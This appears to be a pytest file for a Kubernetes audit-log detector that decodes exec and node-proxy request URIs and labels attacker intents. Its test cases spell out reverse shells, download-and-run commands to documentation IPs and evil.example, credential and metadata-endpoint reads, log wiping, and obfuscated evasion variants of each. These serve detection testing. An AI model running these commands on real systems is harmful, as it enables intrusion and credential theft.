"""features.commands: exec and proxy request URIs as kubectl and attackers send them, decoded to argv and intents."""
from __future__ import annotations

import re
from urllib.parse import quote

import pytest

from features.commands import (
    COLUMN_NAMES,
    DECODE_ISSUES,
    INTENT_BY_NAME,
    INTENTS,
    KUBELET_ENDPOINTS,
    MAX_COMMAND_CHARS,
    command_facts,
    command_intents,
    normalise,
    parse_query,
)
from tests.factory import event


def percent_encode(arg: str) -> str:
    return quote(arg, safe="")


def exec_event(*argv: str, namespace: str = "web", pod: str = "web-1", encode=percent_encode, **override) -> dict:
    """A kubectl exec as EKS logs it: ResponseStarted 101, argv as repeated command= parameters."""
    query = "&".join("command=" + encode(a) for a in argv) + "&container=app&stdin=true&stdout=true&tty=true"
    return event(stage="ResponseStarted", verb="create", responseStatus={"code": 101},
                 objectRef={"resource": "pods", "subresource": "exec", "namespace": namespace, "name": pod, "apiVersion": "v1"},
                 requestURI=f"/api/v1/namespaces/{namespace}/pods/{pod}/exec?{query}", **override)


def kubectl_encode(arg: str) -> str:
    """kubectl (Go url.Values.Encode): spaces as '+'."""
    return quote(arg, safe="").replace("%20", "+")


def intents_of(raw: dict) -> set[str]:
    facts = command_facts(raw["requestURI"])
    return set(facts["exec_intents"].split(",")) if facts["exec_intents"] else set()


# --------------------------------------------------------------------------- decoding


def test_kubectl_argv_is_decoded_plus_as_space_and_repeated_command_joined():
    raw = exec_event("sh", "-c", "cat /etc/os-release && id", encode=kubectl_encode)
    assert "+" in raw["requestURI"]
    facts = command_facts(raw["requestURI"])
    assert facts["exec_command"] == "sh -c cat /etc/os-release && id"
    assert facts["exec_intents"] is None and facts["exec_decode_issues"] is None
    assert facts["proxy_resource"] is None


def test_percent_encoded_plus_stays_a_plus():
    assert command_facts(exec_event("expr", "1+1")["requestURI"])["exec_command"] == "expr 1+1"


def test_pairs_the_server_skips_are_counted_not_run():
    """Go's query parser drops a pair with a bad escape or a raw ';': it never reached the container."""
    uri = "/api/v1/namespaces/web/pods/web-1/exec?command=cat&command=%zz%2Fetc%2Fshadow&command=a;b&command=%2Fetc%2Fhostname"
    facts = command_facts(uri)
    assert facts["exec_command"] == "cat /etc/hostname"
    assert facts["exec_decode_issues"] == "invalid_escape,semicolon_pair"


def test_invalid_utf8_is_kept_replaced_and_counted():
    issues: set[str] = set()
    params = parse_query("command=cat&command=%FF%FEx", issues)
    assert params["command"] == ["cat", "\ufffd\ufffdx"]
    assert issues == {"invalid_utf8"}


def test_overlong_command_is_bounded_and_marked():
    raw = exec_event("sh", "-c", "true " * 5_000 + "; bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
    facts = command_facts(raw["requestURI"])
    assert len(facts["exec_command"]) == MAX_COMMAND_CHARS and facts["exec_command"].endswith("…")
    assert "command_truncated" in facts["exec_decode_issues"]
    assert "obfuscation:oversized_command" in facts["exec_intents"]


def test_exec_without_uri_reads_pod_exec_options_body():
    """Some exporters (the shared fixtures' Panther-shaped events) carry argv only as requestObject.command."""
    facts = command_facts(None, {"command": ["tar", "czf", "-", "/var/run/secrets/kubernetes.io/serviceaccount"]}, subresource="exec")
    assert facts["exec_intents"] == "archive_copy:from_pod,credential_read:service_account_token"
    assert command_facts(None, {"command": ["ls"]}, subresource=None) == dict.fromkeys(COLUMN_NAMES)


def test_other_requests_have_no_facts():
    for uri in ("/api/v1/namespaces/web/pods", "/apis/apps/v1/namespaces/web/deployments/executor", None, "", "/api/v1/nodes/n1"):
        assert command_facts(uri) == dict.fromkeys(COLUMN_NAMES)


# --------------------------------------------------------------------------- intents: positive, evasion, benign look-alike
CASES = [
    # (intent, positive argv, evasion argv, benign look-alike argv)
    ("reverse_shell:fifo_relay",
     ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f"],
     ["sh", "-c", "mk''fifo /tmp/p; cat /tmp/p | sh | n\\c 203.0.113.9 4242 > /tmp/p"],
     ["sh", "-c", "mkfifo /tmp/pipe && cat /tmp/pipe"]),
    ("reverse_shell:dev_tcp",
     ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
     ["bash", "-c", "exec 5<>$'\\x2fdev\\x2ftcp'/203.0.113.9/443;cat <&5|bash >&5"],
     ["bash", "-c", "ls /dev/ | grep tty"]),
    ("reverse_shell:netcat_exec",
     ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
     ["sh", "-c", "/usr/bin/ncat${IFS}--exec${IFS}/bin/bash 203.0.113.9 4444"],
     ["nc", "-zv", "db.internal", "5432"]),
    ("reverse_shell:socat",
     ["socat", "tcp-connect:203.0.113.9:4444", "exec:/bin/sh,pty,stderr"],
     ["sh", "-c", "so\"\"cat TCP4:203.0.113.9:4444 EXEC:bash"],
     ["socat", "-V"]),
    ("reverse_shell:script_socket",
     ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"],
     ["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,inet_aton('203.0.113.9')))"],
     ["python3", "-c", "import socket; print(socket.gethostname())"]),
    ("reverse_shell:interactive_redirect",
     ["sh", "-c", "sh -i 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443"],
     ["sh", "-c", "zsh  -i   >&  /tmp/x"],
     ["bash", "-i"]),
    ("credential_read:proc_environ",
     ["cat", "/proc/1/environ"],
     ["sh", "-c", "cat /proc/self/../1/./environ | tr '\\0' '\\n'"],
     ["cat", "/proc/1/status"]),
    ("credential_read:service_account_token",
     ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
     ["cat", "/v?r/run//secrets/kubernetes.io/serviceaccount/t*"],
     ["cat", "/etc/hosts"]),
    ("credential_read:pod_identity_token",
     ["cat", "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token"],
     ["sh", "-c", "cat /run/secrets/pods.eks.amazonaws.com/serviceaccount/*"],
     ["ls", "/var/run"]),
    ("credential_read:irsa_token",
     ["cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"],
     ["sh", "-c", "cat $AWS_WEB_IDENTITY_TOKEN_FILE /var/run/secrets/eks.amazonaws.com/serviceaccount/token"],
     ["echo", "eks.amazonaws.com"]),
    ("credential_read:kubeconfig",
     ["cat", "/root/.kube/config"],
     ["sh", "-c", "cat ~/.k\\ube/config"],
     ["kubectl", "version", "--client"]),
    ("credential_read:aws_credentials",
     ["cat", "/root/.aws/credentials"],
     ["sh", "-c", "curl -s $AWS_CONTAINER_CREDENTIALS_FULL_URI -H \"Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)\""],
     ["aws", "s3", "ls"]),
    ("credential_read:private_key",
     ["cat", "/home/app/.ssh/id_rsa"],
     ["sh", "-c", "cat /etc/tls/server.k''ey"],
     ["cat", "/etc/tls/README"]),
    ("credential_read:env_dump",
     ["env"],
     ["sh", "-c", "printenv | grep -i secret"],
     ["env", "LANG=C", "python3", "app.py"]),
    ("credential_read:kubernetes_config",
     ["cat", "/etc/kubernetes/admin.conf"],
     ["sh", "-c", "tar cf - /host/../etc/kubernetes/pki"],
     ["cat", "/etc/kubernetes-release-notes.txt"]),
    ("metadata_endpoint:imds",
     ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
     ["curl", "-s", "http://0xa9fea9fe/"],
     ["curl", "-s", "http://169.254.169.253/"]),
    ("metadata_endpoint:pod_identity_agent",
     ["curl", "http://169.254.170.23/v1/credentials"],
     ["curl", "-g", "http://[fd00:ec2::23]/v1/credentials"],
     ["curl", "http://169.254.170.24/"]),
    ("metadata_endpoint:ecs_credentials",
     ["curl", "169.254.170.2/v2/credentials/abc"],
     ["wget", "-qO-", "http://0251.0376.0252.02/v2/credentials/abc"],
     ["curl", "http://10.169.254.170/"]),
    ("download_exec:pipe_to_interpreter",
     ["sh", "-c", "curl -fsSL https://203.0.113.9/x.sh | sh"],
     ["sh", "-c", "wget -qO- http://evil.example/i | /usr/bin/python3"],
     ["curl", "-s", "localhost:8080/healthz"]),
    ("download_exec:fetch_then_run",
     ["sh", "-c", "curl -o /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x"],
     ["sh", "-c", "wget http://203.0.113.9/m -O /dev/shm/m; chmod 755 /dev/shm/m; /dev/shm/m"],
     ["sh", "-c", "curl -o /tmp/report.json http://api.internal/report && cat /tmp/report.json"]),
    ("download_exec:subshell",
     ["bash", "-c", "bash <(curl -s http://203.0.113.9/i)"],
     ["sh", "-c", "eval \"$(wget -qO- http://203.0.113.9/i)\""],
     ["sh", "-c", "echo $(date)"]),
    ("encoded_exec:decode_to_interpreter",
     ["sh", "-c", "echo Y3VybCBldmlsIHwgc2g= | base64 -d | sh"],
     ["sh", "-c", "echo Y3VybCBldmlsIHwgc2g= | base64 --decode|bash"],
     ["sh", "-c", "echo aGVsbG8= | base64 -d"]),
    ("encoded_exec:decode_subshell",
     ["sh", "-c", "sh -c \"$(echo Y3VybCBldmlsIHwgc2g= | base64 -d)\""],
     ["sh", "-c", "`echo aWQ= | base64 -d`"],
     ["sh", "-c", "echo $(hostname)"]),
    ("archive_copy:from_pod",
     ["tar", "cf", "-", "/app/secrets/credentials.json"],
     ["tar", "-c", "-z", "--file=-", "/data"],
     ["tar", "czf", "backup.tar.gz", "/app/data"]),
    ("archive_copy:into_pod",
     ["tar", "-xmf", "-", "-C", "/tmp"],
     ["tar", "--extract", "-f", "-", "-C", "/usr/local/bin"],
     ["tar", "tf", "backup.tar.gz"]),
    ("package_install:os_package",
     ["sh", "-c", "apt-get update && apt-get install -y nmap"],
     ["apk", "--no-cache", "add", "socat"],
     ["apt-cache", "policy", "openssl"]),
    ("history_clear:shell_history",
     ["sh", "-c", "history -c; rm -f ~/.bash_history"],
     ["sh", "-c", "unset HISTFILE; export HISTSIZE=0"],
     ["sh", "-c", "history | tail -5"]),
]


@pytest.mark.parametrize("intent,positive,evasion,benign", CASES, ids=[c[0] for c in CASES])
def test_intent_positive_evasion_and_benign(intent, positive, evasion, benign):
    assert intent in INTENT_BY_NAME
    assert intent in intents_of(exec_event(*positive, encode=kubectl_encode)), positive
    assert intent in intents_of(exec_event(*evasion)), evasion
    assert intent not in intents_of(exec_event(*benign, encode=kubectl_encode)), benign


def test_every_declared_intent_has_a_case_or_is_computed():
    tested = {c[0] for c in CASES}
    untested = {i.name for i in INTENTS} - tested
    # Covered by the dedicated tests below or by the case table through another family member.
    assert untested <= {"reverse_shell:awk_inet", "reverse_shell:telnet_pipe", "credential_read:mounted_secret",
                        "credential_read:kubelet_pod_volumes", "credential_read:shadow", "credential_read:registry_auth",
                        "metadata_endpoint:imds_path", "metadata_endpoint:imds_hostname", "encoded_exec:interpreter_decode",
                        "package_install:language_package", "history_clear:system_logs", "obfuscation:shell_tricks",
                        "obfuscation:oversized_command"}


@pytest.mark.parametrize("address", [
    "169.254.169.254", "2852039166", "0xa9fea9fe", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376",
    "0xa9.254.0251.0xfe", "169.254.43518", "169.16689662", "[fd00:ec2::254]", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
    "169.254.169.254.nip.io",
])
def test_metadata_endpoint_in_every_notation(address):
    assert "metadata_endpoint:imds" in command_intents(f"curl -s http://{address}/latest/meta-data/")


def test_imds_path_and_hostname_name_the_endpoint_through_any_host():
    assert {"metadata_endpoint:imds_path", "metadata_endpoint:imds_hostname"} <= set(
        command_intents("curl http://instance-data.ec2.internal/latest/api/token -X PUT"))


def test_shell_tricks_are_an_intent_of_their_own():
    assert "obfuscation:shell_tricks" in command_intents("c\\at${IFS}/etc/passwd")
    assert "obfuscation:shell_tricks" not in command_intents("cat /etc/passwd")


@pytest.mark.parametrize("command,intent", [
    ("gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\"}'", "reverse_shell:awk_inet"),
    ("telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445", "reverse_shell:telnet_pipe"),
    ("ls /run/secrets", "credential_read:mounted_secret"),
    ("find /var/lib/kubelet/pods -name token", "credential_read:kubelet_pod_volumes"),
    ("cat /etc/shadow", "credential_read:shadow"),
    ("cat /root/.docker/config.json", "credential_read:registry_auth"),
    ("python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", "encoded_exec:interpreter_decode"),
    ("pip install --user requests", "package_install:language_package"),
    ("sh -c rm -rf /var/log/*", "history_clear:system_logs"),
])
def test_remaining_intents(command, intent):
    assert intent in command_intents(command)


def test_normalise_keeps_case_for_tar_flags_and_resolves_paths():
    text, found = normalise("tar  xf -  -C   /a//b/./c/../d")
    assert text == "tar xf - -C /a/b/d" and found == set()


# --------------------------------------------------------------------------- proxy requests


def proxy_event(uri: str, verb: str = "get", user: str = "alice@corp.example") -> dict:
    name = uri.split("/")[4]
    return event(verb=verb, requestURI=uri, user={"username": user, "groups": ["system:authenticated"]},
                 objectRef={"resource": "nodes", "subresource": "proxy", "name": name, "apiVersion": "v1"})


def test_nodes_proxy_run_is_execution_with_its_command_and_pod():
    raw = proxy_event("/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/run/payments/api-7d9/api?cmd=cat+/var/run/secrets/"
                      "kubernetes.io/serviceaccount/token", verb="create")
    facts = command_facts(raw["requestURI"])
    assert facts == {
        "exec_command": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "exec_intents": "credential_read:service_account_token", "exec_decode_issues": None,
        "proxy_resource": "nodes", "proxy_target": "ip-10-0-1-5.ec2.internal", "proxy_endpoint": "run",
        "proxy_class": "execution", "proxy_pod": "payments/api-7d9",
    }


def test_nodes_proxy_exec_uses_command_parameters():
    facts = command_facts("/api/v1/nodes/https:ip-10-0-1-5.ec2.internal:10250/proxy/exec/kube-system/aws-node-x/aws-node"
                          "?command=sh&command=-c&command=env&output=1&error=1")
    assert (facts["proxy_target"], facts["proxy_class"], facts["proxy_pod"]) == ("ip-10-0-1-5.ec2.internal", "execution", "kube-system/aws-node-x")
    assert facts["exec_intents"] == "credential_read:env_dump"


@pytest.mark.parametrize("path,endpoint,klass", [
    ("metrics", "metrics", "metrics"), ("metrics/cadvisor", "metrics/cadvisor", "metrics"), ("stats/summary", "stats", "metrics"),
    ("healthz", "healthz", "metrics"), ("pods", "pods", "read"), ("runningpods/", "runningpods", "read"),
    ("configz", "configz", "read"), ("logs/messages", "logs", "read"), ("debug/pprof/heap", "debug", "read"),
    ("checkpoint/web/web-1/app", "checkpoint", "read"), ("containerLogs/web/web-1/app", "containerlogs", "read"),
    ("portForward/web/web-1", "portforward", "execution"), ("attach/web/web-1/app", "attach", "execution"),
    ("cri/exec/abc", "cri", "execution"), ("", None, "other"), ("unknownpath", "unknownpath", "other"),
])
def test_kubelet_endpoints_are_classified(path, endpoint, klass):
    facts = command_facts(f"/api/v1/nodes/ip-10-0-1-5/proxy/{path}")
    assert (facts["proxy_endpoint"], facts["proxy_class"]) == (endpoint, klass)


def test_prometheus_scrape_is_benign_and_dot_segments_do_not_hide_run():
    scrape = command_facts(proxy_event("/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/metrics/cadvisor",
                                       user="system:serviceaccount:monitoring:prometheus")["requestURI"])
    assert scrape["proxy_class"] == "metrics" and scrape["exec_command"] is None
    sneaky = command_facts("/api/v1/nodes/ip-10-0-1-5/proxy/metrics/%2E%2E/run/web/web-1/app?cmd=id")
    assert (sneaky["proxy_class"], sneaky["exec_command"], sneaky["exec_decode_issues"]) == ("execution", "id", "path_unclean")


def test_every_kubelet_class_is_known():
    assert {klass for klass, _ in KUBELET_ENDPOINTS.values()} == {"execution", "read", "metrics"}


@pytest.mark.parametrize("uri,resource,target,endpoint,klass", [
    ("/api/v1/namespaces/monitoring/services/https:grafana:3000/proxy/api/dashboards", "services", "monitoring/grafana", "api", "application"),
    ("/api/v1/namespaces/web/pods/web-1:8080/proxy/metrics", "pods", "web/web-1", "metrics", "metrics"),
    ("/api/v1/namespaces/kube-system/services/kubernetes-dashboard/proxy/", "services", "kube-system/kubernetes-dashboard", None, "application"),
    ("/api/v1/proxy/nodes/ip-10-0-1-5/pods", "nodes", "ip-10-0-1-5", "pods", "read"),
])
def test_pod_service_and_legacy_proxies(uri, resource, target, endpoint, klass):
    facts = command_facts(uri)
    assert (facts["proxy_resource"], facts["proxy_target"], facts["proxy_endpoint"], facts["proxy_class"]) == (resource, target, endpoint, klass)


def test_a_pod_named_proxy_is_not_a_proxy_request():
    assert command_facts("/api/v1/namespaces/web/pods/proxy/log")["proxy_resource"] is None


# --------------------------------------------------------------------------- hostile input
_ESCAPED_OR_CLASS = re.compile(r"\\.|\[\^?\]?[^\]]*\]")
_BOUND = re.compile(r"\{\d{1,4},(\d{1,4})\}")


def test_every_intent_pattern_repeats_only_within_small_bounds():
    """Linear matching by construction: with escapes and character classes set aside, no regex holds a * or +, and
    no bound exceeds 64, so each match attempt scans a small window; longer reaches are Near pairs, matched on
    the anchors' positions (checked on the patterns, not with a clock)."""
    for intent in INTENTS:
        for regex in intent.regexes():
            bare = _ESCAPED_OR_CLASS.sub("x", regex)
            assert "*" not in bare and "+" not in bare, intent.name
            assert all(int(bound) <= 64 for bound in _BOUND.findall(regex)), intent.name


def test_near_pairs_respect_gap_and_barrier():
    assert "download_exec:pipe_to_interpreter" in command_intents("curl -s http://x/i" + " -H a" * 90 + " | sh")
    assert "download_exec:pipe_to_interpreter" not in command_intents("curl -s http://x/i" + " -H a" * 110 + " | sh")
    assert "download_exec:pipe_to_interpreter" not in command_intents("curl -s http://x/i > /tmp/i; cat /tmp/i | sh")
    assert "reverse_shell:fifo_relay" not in command_intents("nc -zv db 5432; mkfifo /tmp/p")  # the pipe must come first


def test_decode_issues_are_declared():
    facts = command_facts("/api/v1/namespaces/web/pods/web-1/exec?" + "command=x&" * 40_000 + "command=%zz;")
    assert set(facts["exec_decode_issues"].split(",")) <= set(DECODE_ISSUES)


def test_pathological_inputs_finish_and_stay_bounded():
    for command in ("curl " * 4_000, "tar " * 4_000, "/" * 20_000, "0x" * 10_000, ":" * 20_000, "1." * 10_000, "*" * 20_000,
                    "sh -i " * 3_000, "\\" * 20_000, "$'" * 10_000, "/.." * 7_000):
        intents = command_intents(command)
        assert all(i in INTENT_BY_NAME for i in intents)


hypothesis = pytest.importorskip("hypothesis")
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(max_size=400))
def test_any_query_or_command_never_raises(junk):
    for uri in (f"/api/v1/namespaces/a/pods/b/exec?command={junk}", f"/api/v1/nodes/{junk}/proxy/run/a/b/c?cmd={junk}",
                f"/api/v1/nodes/n/proxy/{junk}", junk + "/proxy" + junk):
        facts = command_facts(uri)
        assert set(facts) == set(COLUMN_NAMES)
        assert facts["exec_command"] is None or len(facts["exec_command"]) <= MAX_COMMAND_CHARS
    assert all(i in INTENT_BY_NAME for i in command_intents(junk))
